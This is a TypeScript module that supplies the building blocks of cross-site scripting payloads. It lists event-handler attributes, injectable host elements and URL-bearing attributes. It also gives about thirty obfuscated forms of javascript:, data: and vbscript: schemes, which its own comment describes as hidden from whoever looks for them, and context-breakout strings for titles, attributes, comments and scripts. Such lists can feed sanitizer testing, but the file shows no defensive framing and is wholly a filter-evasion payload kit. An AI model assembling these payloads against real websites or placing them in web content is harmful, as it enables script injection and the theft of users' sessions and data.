/** The words that hostile HTML is made of: elements, handlers, attributes, schemes, and ways to hide them. */

/** Writes a text around the call that would run. */
export type Make = (call: string) => string

const entities = (text: string, write: (code: number) => string) =>
  [...text].map((each) => write(each.codePointAt(0) ?? 0)).join('')
export const decimal = (text: string) => entities(text, (code) => `&#${code};`)
export const hex = (text: string) => entities(text, (code) => `&#x${code.toString(16)};`)
const bare = (text: string) => entities(text, (code) => `&#${String(code).padStart(7, '0')}`)
export const swung = (text: string) =>
  [...text].map((each, at) => (at % 2 ? each.toUpperCase() : each)).join('')

export const HANDLERS =
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onanimationstart onbegin onbeforetoggle onscroll oncontentvisibilityautostatechange'.split(
    ' ',
  )
export const HOSTS = [
  'img src=x',
  'svg',
  'video src=x autoplay',
  'audio src=x',
  'details open',
  'input autofocus',
  'body',
  'a href=# tabindex=1',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'marquee',
  'p style="animation:x"',
  'math href=#',
  'x-own tabindex=1',
  'table background=x',
  'picture',
  'select autofocus',
]

/** How a scheme is hidden from whoever looks for it. */
export const SCHEMES: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \t javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java&Tab;script&colon;${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `${decimal('javascript:')}${call}`,
  (call) => `${hex('javascript')}:${call}`,
  (call) => `${bare('javascript')}:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*--></title>*/${call}`,
  (call) => `ja\u200bvascript:${call}`,
  (call) => `ｊavascript:${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `data:text/html,<script>top.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${call}'/>`,
  (call) =>
    `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>top.${call}</x:script>`,
  (call) => `blob:javascript:${call}`,
  (call) => `//javascript:${call}`,
  (call) => `\\\\javascript:${call}`,
  (call) => `javascript&#x3A${call}`,
  (call) => `&Jscr;avascript:${call}`,
  (call) => `javascript\u2028:${call}`,
]
export const LINKING = [
  ['a', 'href'],
  ['a', 'xlink:href'],
  ['area', 'href'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['img', 'dynsrc'],
  ['iframe', 'src'],
  ['iframe', 'srcdoc'],
  ['frame', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['input type=image', 'formaction'],
  ['video', 'poster'],
  ['source', 'srcset'],
  ['link rel=stylesheet', 'href'],
  ['link rel=import', 'href'],
  ['base', 'href'],
  ['meta http-equiv=refresh', 'content=0;url'],
  ['blockquote', 'cite'],
  ['q', 'cite'],
  ['body', 'background'],
  ['svg', 'href'],
  ['math', 'href'],
  ['script', 'src'],
  ['track', 'src'],
] as const

/** What gets out of the place that a text was put in: a title, an attribute, a comment, a script, a style. */
export const ENDS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '%>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</xmp>',
  '</template>',
  '</select>',
  '</iframe>',
  '</a>',
  '</svg>',
  '\\"',
  "\\'",
  '${',
  '&quot;>',
  '&lt;/title&gt;',
  '\0">',
  '\u2028',
  '\r\n\r\n',
  '","',
  "','",
  '});',
  '\\u0022>',
]
